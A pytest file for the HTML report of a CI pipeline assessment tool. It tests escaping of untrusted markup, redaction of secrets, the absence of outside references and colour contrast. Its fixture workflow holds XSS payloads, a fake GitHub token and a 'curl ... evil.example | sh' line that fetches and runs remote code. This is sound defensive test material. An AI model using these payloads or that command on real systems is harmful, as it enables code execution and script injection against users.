"""The HTML report: well-formed, escaped, without any reference outward, without secrets, readable, and with all that the document has."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from itertools import pairwise
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET

import pytest

from seaway.app import assess
from seaway.app.report import Measured, Report
from seaway.assess.dora import document as measures
from seaway.assess.dora.report import METRICS
from seaway.assess.page import snippets, style, whole
from seaway.assess.page.element import Html, el, prose, text
from seaway.model.bottleneck import Bottleneck, Cost, Figure, JobTime
from support import delivery_story

TODAY = date(2026, 3, 2)
SECRET = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
EVIL = "</pre><script>alert(1)</script><img src=x onerror=alert(2)>&amp;\u202e\x1b"
WORKFLOW = f"""\
on: push
env:
  NAME: "{EVIL[:60]}"
jobs:
  "<script>alert(3)</script>":
    runs-on: ubuntu-24.04
    steps:
      - uses: acme/"onload="x@main
      - uses: actions/checkout@v5
  ship:
    needs: ["<script>alert(3)</script>"]
    runs-on: ubuntu-24.04
    environment: production
    steps:
      - run: |
          TOKEN={SECRET} ./ship  # {SECRET} again
          curl -fsSL http://evil.example/x | sh
      - uses: other/ship@main  # seaway: ignore[unpinned-action] ours <b>and</b> no others until=2027-01-31
"""
ELEMENTS = {
    "html", "head", "meta", "title", "style", "body", "main", "header", "nav", "section", "footer", "div", "span", "p", "a", "b", "ul", "li",
    "h1", "h2", "h3", "code", "pre", "mark", "table", "thead", "tbody", "tr", "th", "td", "details", "summary",
    "svg", "rect", "line", "circle", "text",
}  # fmt: skip


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> assess.Assessed:
    root = tmp_path_factory.mktemp("x") / "<b>shop"
    (root / ".git").mkdir(parents=True)
    (root / ".github/workflows").mkdir(parents=True)
    (root / ".github/workflows/ci.yml").write_text(WORKFLOW.replace("\u202e\x1b", "\u202e"), encoding="utf-8")
    (root / ".gitlab-ci.yml").write_text("a: [\n", encoding="utf-8")
    return assess.assess(root, today=TODAY)


@pytest.fixture(scope="module")
def measured() -> Measured:
    told = delivery_story.told()
    return Measured(measures.render(told), "", {metric: measures.rows(told, metric)["rows"] for metric in METRICS})


@pytest.fixture(scope="module")
def page(found: assess.Assessed, measured: Measured) -> str:
    return Report(found, measured).html(TODAY)


def tree(page: str) -> ET.Element:
    return ET.fromstring(page.removeprefix("<!DOCTYPE html>"))


def words(page: str) -> str:
    return re.sub(r"\s+", " ", "".join(tree(page).itertext()))


def foreign(page: str) -> list[str]:
    """Elements, attributes and references that the report never has."""
    wrong = []
    for one in tree(page).iter():
        wrong += [one.tag] if one.tag not in ELEMENTS else []
        for name, value in one.attrib.items():
            inner = name == "href" and re.fullmatch(r"#[\w-]+", value)
            outer = name in {"href", "src", "srcset", "data", "action", "style"} or name.startswith(
                ("on", "{", "xlink")
            )
            wrong += [f"{name}={value}"] if outer and not inner else []
    return wrong + re.findall(
        r"url\(|@import|expression\(", "".join(one.text or "" for one in tree(page).iter("style"))
    )


def test_it_is_well_formed_and_begins_as_html(page: str) -> None:
    assert page.startswith('<!DOCTYPE html>\n<html lang="en">')
    assert tree(page).tag == "html"
    with pytest.raises(ET.ParseError):
        tree(page.replace("</section>", "", 1))


def test_nothing_of_others_becomes_markup_and_nothing_is_fetched(page: str) -> None:
    assert foreign(page) == []
    assert "default-src 'none'" in page.replace("&#x27;", "'")
    assert "<script" not in page
    said = words(page)
    assert "<script>alert(3)</script>" in said
    assert "How <b>shop ships" in said
    assert "ours <b>and</b> no others" in said


@pytest.mark.parametrize(
    "markup",
    ["<script>x</script>", "<b onclick='x'/>", "<img src='x'/>", "<a href='https://x.example'/>", "<a href='javascript:x'/>",
     "<style>a{background:url(x)}</style>", "<div style='x'/>"],
)  # fmt: skip
def test_markup_that_slips_through_is_caught(page: str, markup: str) -> None:
    assert foreign(page.replace("<footer>", f"{Html(markup)}<footer>"))
    assert not foreign(page.replace("<footer>", f"{text(markup)}<footer>"))


def test_what_is_invisible_is_made_visible() -> None:
    assert text("a\x1b[31m\u202eb\ud800") == "a\u241b[31m\ufffdb\ufffd"
    assert text("tab\tand\nline") == "tab\tand\nline"
    assert el("p", "<", Html("<b/>"), None, 2.50, class_='"', data_x=None) == '<p class="&quot;">&lt;<b/>2.5</p>'
    assert prose("use `<b>` here") == "use <code>&lt;b&gt;</code> here"
    assert prose("one ` alone") == "one ` alone"


def leaves(value: Any) -> Iterator[Any]:
    if isinstance(value, dict):
        for inner in value.values():
            yield from leaves(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from leaves(inner)
    elif value is not None and value != "":
        yield value


def lacking(document: Any, page: str) -> list[Any]:
    """Texts and numbers of the document that cannot be read on the page."""
    said = words(page)

    def there(value: Any) -> bool:
        if isinstance(value, bool):
            return True
        if isinstance(value, int | float):
            return any(f in said for f in (str(value), f"{value:g}"))
        return re.sub(r"\s+", " ", re.sub("`", "", str(value))).strip().rstrip(".") in said.replace("`", "")

    return [one for one in leaves(document) if not there(one)]


def test_everything_of_the_document_is_on_the_page(found: assess.Assessed, measured: Measured, page: str) -> None:
    document = Report(found, measured).document()
    for finding in document["findings"]:
        if finding["fix"]:
            finding["fix"]["diff"] = [line[1:] for line in finding["fix"].pop("diff").splitlines()[2:]]
    document["not_measured"] = [{"what": one["what"]} for one in document["not_measured"]]  # sentences, with a capital
    text_of = page.replace(snippets.BLOT * len(SECRET), SECRET)
    assert lacking(document, text_of) == []
    print_of = document["findings"][0]["fingerprint"]
    assert lacking(document, text_of.replace(print_of, "0" * 16)) == [print_of]


def test_a_report_without_deployments_says_why(found: assess.Assessed) -> None:
    report = Report(found)
    page = report.html(TODAY)
    assert foreign(page) == []
    assert words(page).count("not known") >= 5
    assert "Nothing was named that tells what was deployed" in words(page)
    assert [one["what"] for one in report.document()["not_measured"]] == ["dora", "bottlenecks"]


def test_recorded_runs_are_told_and_time_the_critical_path(found: assess.Assessed) -> None:
    jobs = tuple(
        JobTime(name, Figure(n, n, n, 9), n, Figure(3, 2, 4, 9), 4, Figure(0.75, 0.5, 0.9, 9), n, None, 0, ("u",))
        for name, n in (("<script>alert(3)</script>", 40.0), ("ship", 50.0))
    )
    slow = Bottleneck(
        ".github/workflows/ci.yml", 9, 8, 1_767_600_000, 1_767_700_000, Figure(90, 80, 100, 9), None, 800, 50, 0, 0,
        "times", jobs, Cost(2.5, 0.25, 0, 0),
    )  # fmt: skip
    report = Report(replace(found, assessment=replace(found.assessment, bottlenecks=(slow,))))
    document = report.document()
    assert [(one["unit"], one["total"]) for one in document["critical_paths"]] == [("seconds", 90.0)]
    assert [one["what"] for one in document["not_measured"]] == ["dora"]
    page = report.html(TODAY)
    assert foreign(page) == []
    assert lacking(document["bottlenecks"], page) == []
    assert "A run takes 1m 30s (median; 90 %: 1m 20s to 1m 40s)" in words(page)
    part = replace(slow, jobs=jobs[:1])
    report = Report(replace(found, assessment=replace(found.assessment, bottlenecks=(part,))))
    assert [one["unit"] for one in report.document()["critical_paths"]] == ["jobs"]


def test_an_empty_repository_makes_a_page(tmp_path: Path) -> None:
    page = Report(assess.assess(tmp_path, today=TODAY)).html(TODAY)
    assert foreign(page) == []
    assert "Nothing to mend was found" in words(page)


def test_no_secret_is_repeated(found: assess.Assessed, page: str) -> None:
    assert any(one.rule == "plaintext-secret" for one in found.assessment.findings)
    assert SECRET not in page
    assert f"TOKEN={snippets.BLOT * 5}" in page
    naked = Report(assess.Assessed(found.assessment, {}, found.root, found.texts, (), found.pipelines)).html(TODAY)
    assert SECRET in naked


def test_secrets_are_blotted_out_in_place() -> None:
    key = "-----BEGIN RSA PRIVATE KEY-----\nMIIabc\nxyz\n-----END RSA PRIVATE KEY-----\nafter"
    made = snippets.texts({"a": f"x {SECRET} y\n{key}", "b": SECRET}, [SECRET])
    assert made.lines["b"] == [snippets.BLOT * len(SECRET)]
    assert [len(line) for line in made.lines["a"]] == [len(line) for line in f"x {SECRET} y\n{key}".splitlines()]
    assert made.lines["a"][2:4] == [snippets.BLOT * 6, snippets.BLOT * 3]
    assert made.lines["a"][-1] == "after"


def test_a_snippet_marks_the_place_and_cuts_what_is_long() -> None:
    made = snippets.texts({"f": "one\n  two three\nfour\n" + "x" * 900 + "HERE" + "y" * 900}, [])
    place = {"path": "f", "line": 2, "column": 7, "end_line": 2, "end_column": 12}
    assert "<mark>three</mark>" in str(snippets.snippet(made, place))
    far = {"path": "f", "line": 4, "column": 901, "end_line": 4, "end_column": 905}
    cut = str(snippets.snippet(made, far))
    assert "<mark>HERE</mark>" in cut
    assert len(cut) < 500
    assert snippets.snippet(made, place | {"path": "gone"}) is None
    assert snippets.snippet(made, place | {"line": 99, "end_line": 99}) is None


def contrast(one: str, other: str) -> float:
    """WCAG 2.1, 1.4.3."""

    def light(colour: str) -> float:
        parts = [int(colour[at:stop], 16) / 255 for at, stop in pairwise((1, 3, 5, 7))]
        linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
        return sum(share * part for share, part in zip((0.2126, 0.7152, 0.0722), linear, strict=True))

    high, low = sorted((light(one), light(other)), reverse=True)
    return (high + 0.05) / (low + 0.05)


@pytest.mark.parametrize("colours", [style.LIGHT, style.DARK], ids=["light", "dark"])
def test_every_text_can_be_read(colours: dict[str, str]) -> None:
    assert [(ink, ground) for ink, ground in style.PAIRS if contrast(colours[ink], colours[ground]) < 4.5] == []
    assert contrast("#9aa5b1", colours["ground"] if colours is style.LIGHT else "#5a6a7a") < 4.5
    assert contrast("#ffffff", "#000000") == pytest.approx(21)


def test_the_sheet_knows_paper_and_darkness_and_uses_known_colours_only() -> None:
    sheet = style.sheet()
    assert "prefers-color-scheme:dark" in sheet
    assert "@media print" in sheet
    assert set(re.findall(r"var\(--([\w-]+)\)", sheet)) <= set(style.LIGHT)
    assert set(style.LIGHT) == set(style.DARK)
    assert re.findall(r"#[0-9a-f]{3,8}\b", re.sub(r":root\{[^}]*\}", "", sheet)) == []


def test_many_places_and_many_jobs_stay_readable(tmp_path: Path) -> None:
    jobs = "".join(
        f"  job{n}:\n    runs-on: ubuntu-24.04\n"
        + (f"    needs: job{n - 1}\n" if n % 10 else "")
        + "    steps:\n      - uses: a/b@main\n"
        for n in range(60)
    )
    (tmp_path / ".github/workflows").mkdir(parents=True)
    (tmp_path / ".github/workflows/ci.yml").write_text(f"on: push\njobs:\n{jobs}")
    report = Report(assess.assess(tmp_path, today=TODAY, fixes=False))
    page = report.html(TODAY)
    assert "56 more places" in page
    assert "50 other jobs" in page
    assert lacking(report.document()["critical_paths"], page) == []
    assert json.dumps(report.document())
    assert whole.Given("x", TODAY, "1").rows == {}
